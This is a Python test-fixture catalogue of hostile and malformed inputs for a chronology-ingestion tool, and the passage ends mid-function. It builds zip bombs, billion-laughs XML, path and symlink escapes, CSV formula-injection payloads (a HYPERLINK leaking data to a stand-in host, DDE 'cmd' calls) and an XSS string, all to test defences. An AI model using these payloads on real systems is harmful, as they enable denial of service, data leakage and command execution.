"""The catalogue of bad inputs: each hostile or broken input, how it is made, what must happen.

Every entry is made by its maker in a fresh folder (no committed binaries) and
run through the command line by ``test_catalogue.py``. The README's "Bad input"
table is generated from this list::

    .venv/bin/python tests/bad_inputs/catalogue.py      # prints the table

Expected outcomes:
    * ``Refused``: exit status 2 and exactly one line on stderr naming the file
      (and sheet, row, column where they apply), no traceback, no output written.
    * ``Read``: exit status 0, every row accounted for (rows = events +
      continuations + rejected, against the count the maker wrote), each
      rejected row kept with its reason and listed by ``validate``.
"""

from __future__ import annotations

import io
import json
import os
import random
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from datetime import datetime
from pathlib import Path
from xml.sax.saxutils import escape

import openpyxl
import pandas as pd

# ------------------------------------------------------------------------------------------ outcomes


@dataclass(frozen=True)
class Refused:
    """Exit 2 with one stderr line.

    Attributes:
        message: A regex the line must match.
        where: Parts the line must name: the file, "sheet 'S'", "row N", "column 'C'".
    """

    message: str
    where: tuple[str, ...] = ()

    @property
    def outcome(self) -> str:
        return "refused, exit 2"


@dataclass(frozen=True)
class Read:
    """Exit 0, every row accounted for.

    Attributes:
        rows: Non-empty rows below the header, as the maker wrote them.
        events: How many of them are events.
        rejected: How many are kept as rejected (the rest are continuations).
        reason: A regex every rejected row's reason must match.
        warning: A regex some ``warning:`` line on stdout must match.
        check: Further checks on the ingested events.
    """

    rows: int
    events: int
    rejected: int = 0
    reason: str = ""
    warning: str = ""
    check: Callable[[pd.DataFrame], None] | None = None

    @property
    def continuations(self) -> int:
        return self.rows - self.events - self.rejected

    @property
    def outcome(self) -> str:
        return "read, exit 0; rejected rows kept" if self.rejected else "read, exit 0"


@dataclass(frozen=True)
class Entry:
    """One bad input.

    Attributes:
        id: Short name (the test id).
        input: The input in a few words.
        make: Writes the files and a case.toml into the folder; returns the case.toml.
        expect: The outcome asserted.
        sees: What the user sees, as a short phrase.
        merge: Also run ``merge`` (and check what it writes).
        after_merge: Checks on the merge's output folder.
        no_reader: The workbook reader must not be called (refused before it).
        slow: Takes seconds.
        known_bug: Where a bug outside ingestion makes this entry fail (an expected failure
            until fixed; strict, so the fix is noticed).
        env: Environment variables set for the run (a password given at run time).
    """

    id: str
    input: str
    make: Callable[[Path], Path]
    expect: Refused | Read
    sees: str
    merge: bool = False
    after_merge: Callable[[Path], None] | None = None
    no_reader: bool = False
    slow: bool = False
    known_bug: str = ""
    env: tuple[tuple[str, str], ...] = ()


# ------------------------------------------------------------------------------------------- helpers


def case_file(folder: Path, sources: list[tuple[str, str]], extra: str = "", top: str = "") -> Path:
    """Write case.toml naming (path, agency) sources; ``extra`` goes into the last [[sources]]."""
    folder.mkdir(parents=True, exist_ok=True)
    lines = [top, "[case]", 'name = "Bad input"', ""]
    for path, agency in sources:
        lines += ["[[sources]]", f"path = {json.dumps(path)}", f"agency = {json.dumps(agency)}", ""]
    text = "\n".join(lines).rstrip("\n") + "\n" + extra
    (folder / "case.toml").write_text(text, encoding="utf-8")
    return folder / "case.toml"


def one_file(name: str, data: bytes | str, agency: str = "GP", extra: str = "") -> Callable[[Path], Path]:
    """A maker: one file with these bytes (text as UTF-8) and a case.toml naming it."""

    def make(folder: Path) -> Path:
        folder.mkdir(parents=True, exist_ok=True)
        (folder / name).write_bytes(data.encode("utf-8") if isinstance(data, str) else data)
        return case_file(folder, [(name, agency)], extra)

    return make


def _col(j: int) -> str:
    out = ""
    j += 1
    while j:
        j, rem = divmod(j - 1, 26)
        out = chr(65 + rem) + out
    return out


def _cell(ref: str, value: object) -> str:
    if value is None or value == "":
        return ""
    if isinstance(value, tuple) and value[0] == "e":  # ("e", "#REF!"): an error cell
        return f'<c r="{ref}" t="e"><v>{escape(value[1])}</v></c>'
    if isinstance(value, tuple):  # ("f", formula, cached value or None)
        _, formula, cached = value
        if cached is None:
            return f'<c r="{ref}"><f>{escape(formula)}</f></c>'
        if isinstance(cached, str):
            return f'<c r="{ref}" t="str"><f>{escape(formula)}</f><v>{escape(cached)}</v></c>'
        return f'<c r="{ref}"><f>{escape(formula)}</f><v>{cached}</v></c>'
    if isinstance(value, int | float):
        return f'<c r="{ref}"><v>{value}</v></c>'
    return f'<c r="{ref}" t="inlineStr"><is><t xml:space="preserve">{escape(str(value))}</t></is></c>'


def sheet_xml(rows: list[list[object]], prolog: str = "", after: str = "") -> str:
    """A worksheet part; ``prolog`` goes before the root element, ``after`` at the end of sheetData."""
    body = "".join(
        f'<row r="{i + 1}">' + "".join(_cell(f"{_col(j)}{i + 1}", v) for j, v in enumerate(r)) + "</row>"
        for i, r in enumerate(rows)
    )
    return (
        f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>{prolog}'
        f'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
        f"<sheetData>{body}{after}</sheetData></worksheet>"
    )


def raw_xlsx(
    path: Path,
    sheets: list[tuple[str, list[list[object]]]],
    *,
    date1904: bool = False,
    prolog: str = "",
    after: str = "",
    raw_entities: bool = False,
) -> Path:
    """A minimal workbook written by hand (formulas with cached values, 1904 flag, hostile XML)."""
    rel = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    pkg = "http://schemas.openxmlformats.org/package/2006"
    ct_sheet = "application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"
    ct_book = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
    types = (
        f'<?xml version="1.0" encoding="UTF-8"?><Types xmlns="{pkg}/content-types">'
        f'<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        '<Default Extension="xml" ContentType="application/xml"/>'
        f'<Override PartName="/xl/workbook.xml" ContentType="{ct_book}"/>'
        + "".join(
            f'<Override PartName="/xl/worksheets/sheet{i + 1}.xml" ContentType="{ct_sheet}"/>'
            for i in range(len(sheets))
        )
        + "</Types>"
    )
    rels = (
        f'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="{pkg}/relationships">'
        f'<Relationship Id="rId1" Type="{rel}/officeDocument" Target="xl/workbook.xml"/></Relationships>'
    )
    book_rels = (
        f'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="{pkg}/relationships">'
        + "".join(
            f'<Relationship Id="rId{i + 1}" Type="{rel}/worksheet" Target="worksheets/sheet{i + 1}.xml"/>'
            for i in range(len(sheets))
        )
        + "</Relationships>"
    )
    book = (
        '<?xml version="1.0" encoding="UTF-8"?><workbook '
        f'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="{rel}">'
        + ('<workbookPr date1904="1"/>' if date1904 else "")
        + "<sheets>"
        + "".join(
            f'<sheet name="{escape(name)}" sheetId="{i + 1}" r:id="rId{i + 1}"/>'
            for i, (name, _) in enumerate(sheets)
        )
        + "</sheets></workbook>"
    )
    path.parent.mkdir(parents=True, exist_ok=True)
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as zf:
        zf.writestr("[Content_Types].xml", types)
        zf.writestr("_rels/.rels", rels)
        zf.writestr("xl/workbook.xml", book)
        zf.writestr("xl/_rels/workbook.xml.rels", book_rels)
        for i, (_, rows) in enumerate(sheets):
            xml = sheet_xml(rows, prolog, after)
            if raw_entities:  # entity references left unescaped, as an attacker writes them
                xml = xml.replace("&amp;lol", "&lol")
            zf.writestr(f"xl/worksheets/sheet{i + 1}.xml", xml)
    return path


def openpyxl_book(
    path: Path,
    sheets: dict[str, list[list[object]]],
    *,
    hidden: tuple[str, ...] = (),
    merged: tuple[tuple[str, str], ...] = (),
    epoch_1904: bool = False,
) -> Path:
    """A workbook written by openpyxl (hidden sheets, merged cells, the 1904 date system)."""
    wb = openpyxl.Workbook()
    wb.remove(wb.active)
    if epoch_1904:
        wb.epoch = openpyxl.utils.datetime.CALENDAR_MAC_1904
    for name, rows in sheets.items():
        ws = wb.create_sheet(name)
        for row in rows:
            ws.append(row)
        if name in hidden:
            ws.sheet_state = "hidden"
    for sheet, ref in merged:
        wb[sheet].merge_cells(ref)
    path.parent.mkdir(parents=True, exist_ok=True)
    wb.save(path)
    return path


def xlsx_maker(name: str, write: Callable[[Path], Path], agency: str = "Police", extra: str = "") -> Callable:
    def make(folder: Path) -> Path:
        write(folder / name)
        return case_file(folder, [(name, agency)], extra)

    return make


SIMPLE = [["Date", "Details"], ["01/02/2019", "Home visit, child seen"], ["02/02/2019", "Call to mother"]]
SIMPLE_CSV = 'Date,Details\r\n01/02/2019,"Home visit, child seen"\r\n02/02/2019,Call to mother\r\n'


def _simple_xlsx(path: Path) -> Path:
    return openpyxl_book(path, {"Chronology": SIMPLE})


# ------------------------------------------------------------------------------------------- makers


def make_corrupt_zip(folder: Path) -> Path:
    data = _simple_xlsx(folder / "whole.xlsx").read_bytes()
    (folder / "whole.xlsx").unlink()
    (folder / "police.xlsx").write_bytes(data[: len(data) // 2])
    return case_file(folder, [("police.xlsx", "Police")])


def make_zip_without_sheet(folder: Path) -> Path:
    folder.mkdir(parents=True, exist_ok=True)
    with zipfile.ZipFile(folder / "police.xlsx", "w") as zf:
        zf.writestr("chronology.txt", "Date,Details\n01/02/2019,Seen\n")
    return case_file(folder, [("police.xlsx", "Police")])


def make_encrypted(folder: Path) -> Path:
    """An OLE2 compound file holding an EncryptedPackage stream, as Excel saves with a password."""
    folder.mkdir(parents=True, exist_ok=True)
    ole = (
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
        + b"\x00" * 504
        + "EncryptedPackage".encode("utf-16-le")
        + b"\x00" * 64
    )
    (folder / "police.xlsx").write_bytes(ole)
    return case_file(folder, [("police.xlsx", "Police")])


def make_ole2_not_workbook(folder: Path) -> Path:
    folder.mkdir(parents=True, exist_ok=True)
    (folder / "police.xls").write_bytes(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(range(256)) * 8)
    return case_file(folder, [("police.xls", "Police")])


def make_csv_named_xlsx(folder: Path) -> Path:
    return one_file("police.xlsx", SIMPLE_CSV, "Police")(folder)


def make_xlsx_named_csv(folder: Path) -> Path:
    _simple_xlsx(folder / "gp.csv")
    return case_file(folder, [("gp.csv", "GP")])


def make_garbage(folder: Path) -> Path:
    data = random.Random(8).randbytes(20_000)
    return one_file("gp.csv", b"\x01\x02" + data)(folder)


def make_1904(folder: Path) -> Path:
    # a date cell (converted by the reader) and a plain serial number of the 1904 system
    rows: list[list[object]] = [
        ["Date", "Details"],
        [datetime(2019, 3, 4, 10, 30), "Date cell"],
        [43528 - 1462, "Serial number, 1904 system"],
    ]
    openpyxl_book(folder / "police.xlsx", {"Chronology": rows}, epoch_1904=True)
    return case_file(folder, [("police.xlsx", "Police")])


def check_1904(events: pd.DataFrame) -> None:
    starts = [ts.date().isoformat() for ts in events["start"]]
    assert starts == ["2019-03-04", "2019-03-04"], starts


def make_formulas(folder: Path) -> Path:
    rows: list[list[object]] = [
        ["Date", "Details", "Days"],
        [("f", "DATE(2019,3,4)", 43528), ("f", '"Seen "&"at home"', "Seen at home"), ("f", "1+2", 3)],
        ["05/03/2019", ("f", 'B2&"!"', None), ("f", "1+2", None)],
    ]
    raw_xlsx(folder / "police.xlsx", [("Chronology", rows)])
    return case_file(folder, [("police.xlsx", "Police")])


def check_formulas(events: pd.DataFrame) -> None:
    assert events["start"][0].date().isoformat() == "2019-03-04"
    assert events["description"][0] == "Seen at home"
    assert json.loads(events["raw"][0])["Days"] == "3"
    assert json.loads(events["raw"][1])["Details"] == ""  # a formula saved with no value reads as empty


def make_merged(folder: Path) -> Path:
    rows: list[list[object]] = [
        ["Police chronology - Child H", None, None],
        ["Date", "Details", "Officer"],
        ["01/02/2019", "Incident at the home", "PC 1"],
        [None, "Child seen by officers", "PC 1"],
        [None, "PPN submitted", "PC 2"],
        ["03/02/2019", "Follow-up visit, spread over two cells", None],
    ]
    openpyxl_book(
        folder / "police.xlsx",
        {"Chronology": rows},
        merged=(("Chronology", "A1:C1"), ("Chronology", "A3:A5"), ("Chronology", "B6:C6")),
    )
    return case_file(folder, [("police.xlsx", "Police")])


def check_merged(events: pd.DataFrame) -> None:
    assert events["reason"].tolist()[1:3] == ["date from merged cell"] * 2
    assert events["start"][2].date().isoformat() == "2019-02-01"


CHRON = [["Date", "Details"], ["01/02/2019", "Visit"], ["02/02/2019", "Call"]]
OLD = [["Date", "Details"], ["01/01/2018", "Old entry"], ["02/01/2018", "Old"], ["03/01/2018", "Old"]]


def make_hidden(folder: Path) -> Path:
    openpyxl_book(folder / "police.xlsx", {"Chronology": CHRON, "Old": OLD}, hidden=("Old",))
    return case_file(folder, [("police.xlsx", "Police")])


def make_only_hidden(folder: Path) -> Path:
    notes = [["About this chronology"], ["Prepared for the panel"]]
    openpyxl_book(folder / "police.xlsx", {"Notes": notes, "Chronology": CHRON}, hidden=("Chronology",))
    return case_file(folder, [("police.xlsx", "Police")])


def make_duplicates(folder: Path) -> Path:
    return one_file("gp.csv", "Date,Details,Details,Date\n01/02/2019,Seen,Weighed,02/02/2019\n")(folder)


def check_duplicates(events: pd.DataFrame) -> None:
    raw = json.loads(events["raw"][0])
    assert list(raw) == ["Date", "Details", "Details (2)", "Date (2)"], raw
    assert list(raw.values()) == ["01/02/2019", "Seen", "Weighed", "02/02/2019"]
    assert "Seen" in events["description"][0] and "Weighed" in events["description"][0]


WIDE_COLUMNS = 10_000


def make_wide(folder: Path) -> Path:
    header = ["Date", "Details", *(f"Extra {j}" for j in range(3, WIDE_COLUMNS + 1))]
    rows = [header] + [
        [f"0{d}/02/2019", f"Entry {d}", *(str(j) for j in range(3, WIDE_COLUMNS + 1))] for d in (1, 2, 3)
    ]
    return one_file("gp.csv", "\n".join(",".join(r) for r in rows) + "\n")(folder)


def check_wide(events: pd.DataFrame) -> None:
    raw = json.loads(events["raw"][2])
    assert len(raw) == WIDE_COLUMNS and raw[f"Extra {WIDE_COLUMNS}"] == str(WIDE_COLUMNS)


BIG_CELL = ('Social worker\'s "full" report, line; ' * 27_000)[:1_000_000]


def make_big_cell(folder: Path) -> Path:
    quoted = BIG_CELL.replace('"', '""')
    return one_file("csc.csv", f'Date,Details\n01/02/2019,"{quoted}"\n02/02/2019,Short entry\n', "CSC")(
        folder
    )


def check_big_cell(events: pd.DataFrame) -> None:
    assert json.loads(events["raw"][0])["Details"] == BIG_CELL
    assert events["description"][0] == BIG_CELL.strip()


ROWS_200K = 200_000


def make_200k(folder: Path) -> Path:
    lines = ["Date,Type,Details,Worker"]
    for i in range(ROWS_200K):
        day = "31/02/2019" if i % 1000 == 999 else f"{1 + i % 28:02d}/{1 + i // 28 % 12:02d}/2019"
        lines.append(f"{day},Home visit,Visit {i}: child seen with mother,SW {i % 7}")
    return one_file("csc.csv", "\n".join(lines) + "\n", "CSC")(folder)


def check_200k(events: pd.DataFrame) -> None:
    assert int((events["date_precision"] == "month").sum()) == 200


EMOJI_TEXT = "👶🏽 seen at home 🏠; ‮gnp.exe‬ (right-to-left override); אמא אמרה שלום; قالت الأم مرحبا"


def check_emoji(events: pd.DataFrame) -> None:
    assert events["description"][0] == EMOJI_TEXT
    assert json.loads(events["raw"][1])["Worker 👩‍⚕️"] == "د. سارة"


def check_clock(events: pd.DataFrame) -> None:
    starts = [ts.isoformat() for ts in events["start"]]
    assert starts == ["2019-03-31T02:30:00+01:00", "2019-10-27T01:30:00+01:00", "2019-10-27T12:00:00+00:00"]
    assert "clocks went forward" in events["reason"][0] and "ambiguous" in events["reason"][1]


def make_clock(folder: Path) -> Path:
    text = (
        "Date/Time,Details\n"
        "31/03/2019 01:30,Call at a time that does not exist\n"
        "27/10/2019 01:30,Call at a time that happens twice\n"
        "27/10/2019 12:00,Visit at noon\n"
    )
    return one_file("police.csv", text, "Police")(folder)


def check_invalid(events: pd.DataFrame) -> None:
    # 31/02/2020: never guessed, dated by February 2020 as a whole, the reason saying why
    assert events["date_precision"][0] == "month"
    assert events["reason"][0].startswith("date as written is impossible")


def make_mixed(folder: Path) -> Path:
    cells = [
        "03/04/2019", "2019-04-05", "6 Apr 2019", "07-Apr-2019", "08.04.19", "43564",
        "w/c 08/04/2019", "April 2019", "Spring term 2020", "approx. mid-June 2019", "next Tuesday",
    ]  # fmt: skip
    rows = "".join(f"{c},Entry {i}\n" for i, c in enumerate(cells))
    return one_file("school.csv", "Date,Details\n" + rows, "School")(folder)


def check_mixed(events: pd.DataFrame) -> None:
    days = [ts.date().isoformat() if not pd.isna(ts) else "" for ts in events["start"]]
    assert days[:6] == ["2019-04-03", "2019-04-05", "2019-04-06", "2019-04-07", "2019-04-08", "2019-04-09"]
    assert events["date_precision"].tolist()[6:10] == ["week", "month", "term", "week"]
    assert events["status"].tolist()[-1] == "rejected"


def make_same_file_twice(folder: Path) -> Path:
    folder.mkdir(parents=True, exist_ok=True)
    (folder / "gp.csv").write_text(SIMPLE_CSV)
    return case_file(folder, [("gp.csv", "GP"), ("./gp.csv", "GP surgery")])


def make_same_agency(folder: Path) -> Path:
    folder.mkdir(parents=True, exist_ok=True)
    (folder / "police_2019.csv").write_text(SIMPLE_CSV)
    (folder / "police_2020.csv").write_text(SIMPLE_CSV.replace("2019", "2020"))
    return case_file(folder, [("police_2019.csv", "Police"), ("police_2020.csv", "Police")])


def make_same_content(folder: Path) -> Path:
    folder.mkdir(parents=True, exist_ok=True)
    (folder / "gp.csv").write_text(SIMPLE_CSV)
    (folder / "hv.csv").write_text(SIMPLE_CSV)
    return case_file(folder, [("gp.csv", "GP"), ("hv.csv", "Health Visiting")])


def make_key_typo(folder: Path) -> Path:
    one_file("gp.csv", SIMPLE_CSV)(folder)
    text = '[case]\nname = "Typo"\n\n[[sources]]\npath = "gp.csv"\nagncy = "GP"\n'
    (folder / "case.toml").write_text(text)
    return folder / "case.toml"


def make_table_typo(folder: Path) -> Path:
    one_file("gp.csv", SIMPLE_CSV)(folder)
    (folder / "case.toml").write_text('[case]\nname = "Typo"\n\n[[source]]\npath = "gp.csv"\nagency = "GP"\n')
    return folder / "case.toml"


def make_bad_toml(folder: Path) -> Path:
    one_file("gp.csv", SIMPLE_CSV)(folder)
    (folder / "case.toml").write_text('[case]\nname = "Broken\n\n[[sources]]\npath = "gp.csv"\n')
    return folder / "case.toml"


def make_outside(folder: Path) -> Path:
    (folder.parent / "elsewhere").mkdir(parents=True, exist_ok=True)
    (folder.parent / "elsewhere" / "gp.csv").write_text(SIMPLE_CSV)
    return case_file(folder, [("../elsewhere/gp.csv", "GP")])


def make_symlink_outside(folder: Path) -> Path:
    (folder.parent / "elsewhere").mkdir(parents=True, exist_ok=True)
    (folder.parent / "elsewhere" / "gp.csv").write_text(SIMPLE_CSV)
    folder.mkdir(parents=True, exist_ok=True)
    os.symlink(folder.parent / "elsewhere" / "gp.csv", folder / "gp.csv")
    return case_file(folder, [("gp.csv", "GP")])


def make_missing(folder: Path) -> Path:
    return case_file(folder, [("gp.csv", "GP")])


BOMB_MB = 300


def make_zip_bomb(folder: Path) -> Path:
    """A real workbook whose sheet inflates from ~300 KB to 300 MB of zeros (written in 1 MB blocks)."""
    path = _simple_xlsx(folder / "police.xlsx")
    data = io.BytesIO(path.read_bytes())
    with zipfile.ZipFile(data) as src, zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as zf:
        for info in src.infolist():
            if info.filename != "xl/worksheets/sheet1.xml":
                zf.writestr(info.filename, src.read(info.filename))
        with zf.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as part:
            block = b"\x00" * (1 << 20)
            for _ in range(BOMB_MB):
                part.write(block)
    return case_file(folder, [("police.xlsx", "Police")])


def make_understated_bomb(folder: Path, megabytes: int = 64) -> Path:
    """A workbook whose directory says a part holds 1,000 bytes while it inflates to 64 MB of zeros."""
    import struct

    path = _simple_xlsx(folder / "police.xlsx")
    with (
        zipfile.ZipFile(path, "a", zipfile.ZIP_DEFLATED) as zf,
        zf.open("xl/sharedStrings.xml", "w") as part,
    ):
        part.write(b'<?xml version="1.0"?><sst>')
        block = b"\x00" * (1 << 20)
        for _ in range(megabytes):
            part.write(block)
    data = bytearray(path.read_bytes())
    with zipfile.ZipFile(io.BytesIO(bytes(data))) as zf:
        info = zf.getinfo("xl/sharedStrings.xml")
    struct.pack_into("<I", data, info.header_offset + 22, 1000)  # the local header's size
    for start in _all(data, b"PK\x01\x02"):
        name_len = struct.unpack_from("<H", data, start + 28)[0]
        if data[start + 46 : start + 46 + name_len] == b"xl/sharedStrings.xml":
            struct.pack_into("<I", data, start + 24, 1000)  # the central directory's size
    path.write_bytes(bytes(data))
    return case_file(folder, [("police.xlsx", "Police")])


def _all(data: bytearray, needle: bytes) -> list[int]:
    found, at = [], data.find(needle)
    while at >= 0:
        found.append(at)
        at = data.find(needle, at + 1)
    return found


LAUGHS = (
    '<!DOCTYPE worksheet [<!ENTITY lol "lol">'
    + "".join(
        f'<!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">' for i in range(1, 10)
    )
    + "]>"
)


def make_laughs(folder: Path) -> Path:
    rows: list[list[object]] = [["Date", "Details"], ["01/02/2019", "&lol9;"]]
    raw_xlsx(folder / "police.xlsx", [("Chronology", rows)], prolog=LAUGHS, raw_entities=True)
    return case_file(folder, [("police.xlsx", "Police")])


def make_laughs_hidden(folder: Path) -> Path:
    rows: list[list[object]] = [["Date", "Details"], ["01/02/2019", "&lol9;"]]
    prolog = "<!--" + " padding " * 2000 + "-->" + LAUGHS
    raw_xlsx(folder / "police.xlsx", [("Chronology", rows)], prolog=prolog, raw_entities=True)
    return case_file(folder, [("police.xlsx", "Police")])


def make_far_corner(folder: Path) -> Path:
    far = '<row r="1048576"><c r="XFD1048576" t="inlineStr"><is><t>x</t></is></c></row>'
    raw_xlsx(folder / "police.xlsx", [("Chronology", CHRON)], after=far)
    return case_file(folder, [("police.xlsx", "Police")])


def make_far_z(folder: Path) -> Path:
    far = '<row r="1048576"><c r="Z1048576" t="inlineStr"><is><t>x</t></is></c></row>'
    raw_xlsx(folder / "police.xlsx", [("Chronology", CHRON)], after=far)
    return case_file(folder, [("police.xlsx", "Police")])


def make_far_corners(folder: Path) -> Path:
    far = '<row r="960000"><c r="Z960000" t="inlineStr"><is><t>x</t></is></c></row>'
    raw_xlsx(folder / "police.xlsx", [("Chronology", CHRON), ("Copy", CHRON)], after=far)
    return case_file(folder, [("police.xlsx", "Police")])


def make_stray_row(folder: Path) -> Path:
    far = '<row r="1048576"><c r="B1048576" t="inlineStr"><is><t>stray note</t></is></c></row>'
    raw_xlsx(folder / "police.xlsx", [("Chronology", CHRON)], after=far)
    return case_file(folder, [("police.xlsx", "Police")])


def check_stray_row(events: pd.DataFrame) -> None:
    assert events["source_row"].tolist() == [2, 3, 1048576]
    assert events["description"][1] == "Call\nstray note"


def make_error_cells(folder: Path) -> Path:
    rows: list[list[object]] = [
        ["Date", "Details"],
        [("e", "#REF!"), "Date cell lost in a copy"],
        ["01/02/2019", ("e", "#N/A")],
        ["02/02/2019", "Visit"],
        [("e", "#REF!"), ("e", "#DIV/0!")],  # a row of errors only: still a row
    ]
    raw_xlsx(folder / "police.xlsx", [("Chronology", rows)])
    return case_file(folder, [("police.xlsx", "Police")])


def check_error_cells(events: pd.DataFrame) -> None:
    assert json.loads(events["raw"][1])["Details"] == "#N/A"
    assert json.loads(events["raw"][3]) == {"Date": "#REF!", "Details": "#DIV/0!"}


def make_fifo(folder: Path) -> Path:
    folder.mkdir(parents=True, exist_ok=True)
    os.mkfifo(folder / "gp.csv")
    return case_file(folder, [("gp.csv", "GP")])


def make_folder_source(folder: Path) -> Path:
    (folder / "gp.csv").mkdir(parents=True)
    return case_file(folder, [("gp.csv", "GP")])


def make_string_count(folder: Path) -> Path:
    path = raw_xlsx(folder / "police.xlsx", [("Chronology", CHRON)])
    sst = (
        '<?xml version="1.0"?><sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
        'count="1" uniqueCount="4294967295"><si><t>a</t></si></sst>'
    )
    with zipfile.ZipFile(path, "a") as zf:
        zf.writestr("xl/sharedStrings.xml", sst)
    return case_file(folder, [("police.xlsx", "Police")])


def ods(path: Path, rows_xml: str) -> Path:
    """A minimal OpenDocument spreadsheet around the rows' XML."""
    ns = (
        'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
        'xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" '
        'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0"'
    )
    content = (
        f'<?xml version="1.0" encoding="UTF-8"?><office:document-content {ns} office:version="1.2">'
        f'<office:body><office:spreadsheet><table:table table:name="Chronology">{rows_xml}</table:table>'
        "</office:spreadsheet></office:body></office:document-content>"
    )
    manifest = (
        '<?xml version="1.0" encoding="UTF-8"?><manifest:manifest '
        'xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0" manifest:version="1.2">'
        '<manifest:file-entry manifest:full-path="/" '
        'manifest:media-type="application/vnd.oasis.opendocument.spreadsheet"/></manifest:manifest>'
    )
    path.parent.mkdir(parents=True, exist_ok=True)
    with zipfile.ZipFile(path, "w") as zf:
        zf.writestr("mimetype", "application/vnd.oasis.opendocument.spreadsheet")
        zf.writestr("META-INF/manifest.xml", manifest)
        zf.writestr("content.xml", content, compress_type=zipfile.ZIP_DEFLATED)
    return path


def _ods_row(*cells: str, repeat: int = 1, cell_repeat: int = 1) -> str:
    attr = f' table:number-rows-repeated="{repeat}"' if repeat > 1 else ""
    rep = f' table:number-columns-repeated="{cell_repeat}"' if cell_repeat > 1 else ""
    inner = "".join(
        f'<table:table-cell office:value-type="string"{rep}><text:p>{escape(c)}</text:p></table:table-cell>'
        for c in cells
    )
    return f"<table:table-row{attr}>{inner}</table:table-row>"


ODS_TABLE = _ods_row("Date", "Details") + _ods_row("01/02/2019", "Visit") + _ods_row("02/02/2019", "Call")


def make_ods_padded(folder: Path) -> Path:
    padding = (
        '<table:table-row table:number-rows-repeated="1048573">'
        '<table:table-cell table:number-columns-repeated="1024"/></table:table-row>'
    )
    ods(folder / "school.ods", ODS_TABLE + padding)
    return case_file(folder, [("school.ods", "School")])


def make_ods_bomb(folder: Path) -> Path:
    ods(folder / "school.ods", ODS_TABLE + _ods_row("boom", repeat=100_000, cell_repeat=300))
    return case_file(folder, [("school.ods", "School")])


FORMULAS = [
    '=HYPERLINK("http://example.invalid/?leak="&A2,"Click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
]


def make_formula_text(folder: Path) -> Path:
    lines = ["Date,Details"] + [
        f'0{i + 1}/02/2019,"{f.replace(chr(34), chr(34) * 2)}"' for i, f in enumerate(FORMULAS)
    ]
    return one_file("police.csv", "\n".join(lines) + "\n", "Police")(folder)


def check_formula_text(events: pd.DataFrame) -> None:
    assert events["description"].tolist() == FORMULAS  # kept verbatim in the events


def check_workbook_has_no_formulas(out: Path) -> None:
    wb = openpyxl.load_workbook(out / "chronology.xlsx")
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
    text = (out / "findings.csv").read_text(encoding="utf-8-sig")
    assert "=HYPERLINK" not in text.replace("'=HYPERLINK", "")


SCRIPT = "<script>alert('x')</script></script><img src=x onerror=alert(1)>"


def make_html_text(folder: Path) -> Path:
    return one_file("police.csv", f'Date,Details\n01/02/2019,"{SCRIPT}"\n', "Police")(folder)


def check_html(out: Path) -> None:
    html = (out / "timeline.html").read_text(encoding="utf-8")
    assert "<script>alert('x')" not in html and "<img src=x" not in html


def make_utf16(folder: Path) -> Path:
    return one_file("gp.csv", "Date\tDetails\r\n01/02/2019\tZoë seen\r\n".encode("utf-16"))(folder)


# ------------------------------------------------------------------------------- Word and encrypted

PASSWORD = "case-review-2019"


def word_doc(path: Path, tables: list[list[list[str]]], continued: tuple[int, ...] = ()) -> Path:
    """A .docx: a preamble paragraph, then each table (rows of cells) after a heading, except the
    tables ``continued`` (their index), which follow the table before them over a page break."""
    import docx
    from docx.enum.text import WD_BREAK

    document = docx.Document()
    document.add_paragraph("Police chronology: Child H")
    for n, rows in enumerate(tables):
        if n in continued:
            document.add_paragraph().add_run().add_break(WD_BREAK.PAGE)
        else:
            document.add_paragraph(f"Table {n + 1}")
        table = document.add_table(rows=len(rows), cols=max(map(len, rows)))
        for i, row in enumerate(rows):
            for j, text in enumerate(row):
                table.cell(i, j).text = text
    path.parent.mkdir(parents=True, exist_ok=True)
    document.save(path)
    return path


WORD_ROWS = [["Date", "Event / contact", "Action taken"], ["01/02/2019", "Home visit, child seen", "None"],
             ["02/02/2019", "Call to mother", "Letter to GP"]]  # fmt: skip


def word_maker(tables: list[list[list[str]]], continued: tuple[int, ...] = ()) -> Callable[[Path], Path]:
    def make(folder: Path) -> Path:
        name = "police.docx"
        word_doc(folder / name, tables, continued)
        return case_file(folder, [(name, "Police")])

    return make


def make_word_nested(folder: Path) -> Path:
    import docx

    path = word_doc(folder / "police.docx", [WORD_ROWS])
    document = docx.Document(str(path))
    inner = document.tables[0].cell(1, 2).add_table(rows=1, cols=2)
    inner.cell(0, 0).text, inner.cell(0, 1).text = "Police", "DS 7"
    document.save(path)
    return case_file(folder, [("police.docx", "Police")])


def make_word_laughs(folder: Path) -> Path:
    path = word_doc(folder / "a.docx", [WORD_ROWS])
    out = folder / "police.docx"
    with zipfile.ZipFile(path) as src, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
        for item in src.infolist():
            data = src.read(item)
            if item.filename == "word/document.xml":
                data = data.replace(b"?>", b"?>" + LAUGHS.encode(), 1)
            dst.writestr(item, data)
    path.unlink()
    return case_file(folder, [("police.docx", "Police")])


def encrypted_maker(name: str, plain: Callable[[Path], Path]) -> Callable[[Path], Path]:
